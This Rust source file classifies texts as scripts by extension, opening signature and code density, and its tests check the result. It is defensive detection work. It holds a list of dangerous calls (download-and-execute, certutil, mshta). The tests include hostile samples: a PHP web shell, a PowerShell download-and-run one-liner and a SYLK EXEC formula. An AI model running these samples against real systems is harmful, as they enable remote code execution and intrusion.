//! Which texts are scripts: what a program acts on when somebody opens it, or an interpreter runs. By their names, by how
//! they begin, and by what they consist of.

/// Names' endings of scripts, shortcuts, settings that are taken over by a click, and queries that fetch.
const ENDINGS: &[&str] = &[
    // Windows Script Host and its kin.
    "js",
    "jse",
    "mjs",
    "cjs",
    "vbs",
    "vbe",
    "wsf",
    "wsh",
    "wsc",
    "sct",
    // Shells.
    "bat",
    "cmd",
    "btm",
    "ps1",
    "ps1xml",
    "ps2",
    "psm1",
    "psd1",
    "psc1",
    "sh",
    "bash",
    "zsh",
    "csh",
    "ksh",
    "fish",
    "command",
    "tool",
    // Interpreters.
    "py",
    "pyw",
    "php",
    "php3",
    "php4",
    "php5",
    "php7",
    "phtml",
    "phar",
    "pl",
    "pm",
    "cgi",
    "rb",
    "lua",
    "tcl",
    "awk",
    "scpt",
    "applescript",
    "ahk",
    "au3",
    "jsp",
    "jspx",
    "asp",
    "aspx",
    "asa",
    "asax",
    "ascx",
    "ashx",
    "cfm",
    "groovy",
    "gvy",
    "nut",
    "nse",
    "a3x",
    // Shortcuts and settings.
    "url",
    "website",
    "desktop",
    "webloc",
    "scf",
    "lnk",
    "inf",
    "reg",
    "rdp",
    "rdg",
    "theme",
    "themepack",
    "msc",
    "library-ms",
    "search-ms",
    "searchconnector-ms",
    "settingcontent-ms",
    "appref-ms",
    "application",
    "appcontent-ms",
    "jnlp",
    "contact",
    "group",
    "mobileconfig",
    "pif",
    "pcd",
    "ins",
    "isp",
    "its",
    "diagcab",
    "diagpkg",
    "xbap",
    "osdx",
    "gadget",
    "htc",
    // What spreadsheets fetch, and what printers run.
    "iqy",
    "oqy",
    "rqy",
    "dqy",
    "odc",
    "slk",
    "dif",
    "prn",
    "ps",
    "eps",
    "epsi",
    "epsf",
];

/// How scripts begin, behind blanks, in lower case.
const BEGINNINGS: &[&str] = &[
    "#!/",
    "#! /",
    "#@~^",
    "<?php",
    "<?=",
    "<%",
    "[internetshortcut",
    "[desktop entry]",
    "[autorun]",
    "[.shellclassinfo]",
    "[{000214a0-0000-0000-c000-000000000046}]",
    "windows registry editor version",
    "regedit4",
    "@echo off",
    "@powershell",
    "%!ps",
    "%!\n",
    "%!\r",
    "web\r\n1\r\n",
    "web\n1\n",
    "odbc\r\n1\r\n",
    "xlodbc\r\n1\r\n",
    "option explicit",
    "on error resume next",
    "full address:s:",
    "screen mode id:i:",
];

/// Roots of XML documents that a script host runs, with `script` elements in them.
const HOSTED: &[&str] = &["job", "package", "component", "scriptlet", "registration"];

/// How much of a text is looked at, in bytes.
const HEAD: usize = 64 << 10;

/// Whether names that end so are scripts'; `ending` is in lower case.
pub(super) fn is_ending(ending: &str) -> bool {
    ENDINGS.contains(&ending)
}

/// Whether a text is a script by how it begins.
pub(super) fn begins(text: &str) -> bool {
    let head = text.trim_start_matches(|c: char| c.is_whitespace() || c == '\u{feff}');
    let head = head.get(..head.floor_char_boundary(64)).unwrap_or(head).to_ascii_lowercase();
    BEGINNINGS.iter().any(|begin| head.starts_with(begin)) || is_shell_command(&head) || is_sylk(text)
}

/// A command of Windows' shell (`.scf`), in lower case.
fn is_shell_command(head: &str) -> bool {
    let rest = head.strip_prefix("[shell]").map(str::trim_start);
    rest.is_some_and(|rest| rest.starts_with("command=") || rest.starts_with("iconfile="))
}

/// A sheet of symbolic links (SYLK), which spreadsheets run formulas of: a table may begin with the same letters.
fn is_sylk(text: &str) -> bool {
    let mut lines = text.trim_start().lines();
    let first = lines.next().is_some_and(|line| line.starts_with("ID;P"));
    let record = |line: &str| {
        line.split(';')
            .next()
            .is_some_and(|name| ["P", "B", "F", "C", "O", "NN", "NE", "NU", "W", "E"].contains(&name))
    };
    first && lines.next().is_none_or(record)
}

/// Whether an XML document with this root, in lower case, is one that a script host runs.
pub(super) fn is_hosted(root: &str, text: &str) -> bool {
    HOSTED.contains(&root) && {
        let head = text.get(..text.floor_char_boundary(HEAD)).unwrap_or(text).to_ascii_lowercase();
        head.contains("<script") || head.contains("<registration")
    }
}

/// What scripts call to act on the machine, in lower case.
const ACTS: &[&str] = &[
    "activexobject",
    "createobject",
    "getobject(",
    "wscript.",
    "shellexecute",
    "shell.application",
    "new-object",
    "invoke-expression",
    "invoke-webrequest",
    "invoke-restmethod",
    "invoke-command",
    "start-process",
    "downloadstring",
    "downloadfile",
    "iex ",
    "iex(",
    "powershell",
    "cmd /c",
    "cmd.exe",
    "mshta",
    "rundll32",
    "regsvr32",
    "certutil",
    "bitsadmin",
    "os.system",
    "subprocess.",
    "import os",
    "import subprocess",
    "import socket",
    "exec(",
    "eval(",
    "system(",
    "require(",
    "msgbox",
    "wget ",
    "curl ",
    "chmod ",
    "rm -",
    "schtasks",
    "reg add",
    "del /",
    "taskkill",
];

/// Words that lines of scripts begin with, in lower case, with what must follow.
const LINES: &[&str] = &[
    "dim ",
    "set ",
    "sub ",
    "end sub",
    "function ",
    "end function",
    "end if",
    "if ",
    "else",
    "elseif ",
    "for ",
    "next",
    "while ",
    "wend",
    "loop",
    "do ",
    "var ",
    "let ",
    "const ",
    "return",
    "new ",
    "try",
    "catch",
    "throw",
    "import ",
    "from ",
    "def ",
    "class ",
    "print",
    "echo ",
    "@echo",
    "rem ",
    "call ",
    "start ",
    "goto ",
    "exit",
    "param(",
    "param (",
    "$",
    "function(",
    "export ",
    "case ",
    "msgbox",
    "wscript.",
    "createobject",
    "eval(",
    "exec",
    "iex",
    "invoke-",
    "start-",
    "set-",
    "get-",
    "new-",
    "add-",
    "write-",
    "remove-",
    "cd ",
    "sudo ",
    "curl ",
    "wget ",
    "chmod ",
    "rm ",
    "mkdir ",
    "cp ",
    "mv ",
    "copy ",
    "del ",
    "powershell",
    "cmd",
    "reg ",
    "schtasks",
    "with ",
    "raise ",
    "except",
    "finally",
    "elif ",
    "self.",
    "os.",
    "subprocess.",
    "sys.",
    "require(",
    "public ",
    "private ",
];

/// Lines that end what others begin.
const CLOSINGS: &[&str] = &["fi", "done", "then", "end", "esac", "else", "do", "loop", "wend"];

/// What many lines of scripts consist of, though no sentence does.
fn is_code(line: &str) -> bool {
    let assigned = line.split_once('=').is_some_and(|(name, _)| {
        let name = name.trim_end_matches(['+', '-', ':', ' ', '.']);
        !name.is_empty()
            && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"_$.[]()\"'%".contains(&byte))
    });
    let called =
        line.ends_with([';', '{', '}', ')']) && line.contains(['(', '{', '}', ';']) || line.ends_with("){");
    // `sh.Run "calc"`.
    let told = line.split_once(' ').is_some_and(|(name, rest)| {
        name.contains('.') && !name.ends_with('.') && rest.starts_with(['"', '\'', '('])
    });
    // Sentences begin with such words, too.
    let worded = !line.ends_with(['.', '?', '!']) && LINES.iter().any(|word| line.starts_with(word));
    assigned || called || told || worded || CLOSINGS.contains(&line) || line.starts_with(['\'', '#'])
}

/// Whether a text consists of a script's lines, at least one of which acts on the machine: whatever it is called.
pub(super) fn consists(text: &str) -> bool {
    let head = text.get(..text.floor_char_boundary(HEAD)).unwrap_or(text).to_ascii_lowercase();
    if !ACTS.iter().any(|act| head.contains(act)) {
        return false;
    }
    let mut fenced = false;
    let (mut code, mut all) = (0_usize, 0_usize);
    for line in head.lines().map(str::trim).filter(|line| !line.is_empty()) {
        // Code within Markdown is shown, as a sentence is.
        let fence = line.starts_with("```") || line.starts_with("~~~");
        fenced ^= fence;
        code = code.saturating_add(usize::from(!fence && !fenced && is_code(line)));
        all = all.saturating_add(1);
    }
    // Prose about scripts has sentences.
    code.saturating_mul(10) >= all.saturating_mul(6)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scripts_are_known_by_how_they_begin_and_what_they_consist_of() {
        let scripts = [
            "#!/bin/sh\necho hi\n",
            "\u{feff}  [InternetShortcut]\r\nURL=http://a.example\r\n",
            "[Desktop Entry]\nExec=sh -c x\n",
            "Windows Registry Editor Version 5.00\r\n",
            "%!PS-Adobe-3.0\n",
            "[Shell]\r\nCommand=2\r\n",
            "ID;PWXL;N;E\nC;Y1;X1;K0;EEXEC(\"calc\")\n",
            "WEB\r\n1\r\nhttp://a.example/x\r\n",
            "<?php system($_GET['c']);",
            "Set sh = CreateObject(\"WScript.Shell\")\nsh.Run \"calc.exe\"\nMsgBox \"hi\"\n",
            "var s = new ActiveXObject(\"WScript.Shell\");\ns.Run(\"calc\");\n",
            "$c = New-Object Net.WebClient\nIEX $c.DownloadString('http://a.example/x')\n",
            "IEX (New-Object Net.WebClient).DownloadString('http://a.example/x.ps1')",
            "import os\nimport socket\nos.system('id')\n",
            "eval(atob(\"YWxlcnQoMSk=\"));",
        ];
        for text in scripts {
            assert!(begins(text) || consists(text), "{text}");
        }
        let others = [
            "",
            "Dear Jane,\n\nthe macro calls CreateObject(\"Word\").\nPlease remove it.\n\nYours\nJohn\n",
            "To fetch it run this in a terminal:\n\n    curl https://a.example\n\nThen open the file and read on.\n",
            "id;name;city\n1;Jane;Ulm\n",
            "id;product;price\n1;a;5\n",
            "ID;PRICE\n1;5\n",
            "#![allow(unused)]\nfn main() { exec(); }\n// in one line\nuse a::b\n",
            "[shell]\nname = sh\n",
            "Web: https://a.example\n1. one\n",
            "key = value\nother = 5\n",
            "[section]\nname=Jane\n",
            "2026-01-01 12:00:00 INFO cmd.exe started by Jane from 10.0.0.1\n2026-01-01 12:00:01 WARN it ended\n",
            "# Notes\n\n- use `eval(x)` with care\n- never trust input\n- ask Jane\n",
            "a,b,c\n1,2,powershell\n",
        ];
        for text in others {
            assert!(!begins(text) && !consists(text), "{text}");
        }
    }

    #[test]
    fn hosted_documents_have_scripts() {
        assert!(is_hosted("job", "<job><script language='VBScript'>x</script></job>"));
        assert!(!is_hosted("job", "<job><title>Baker</title></job>"));
        assert!(!is_hosted("svg", "<svg><script/></svg>"));
    }
}
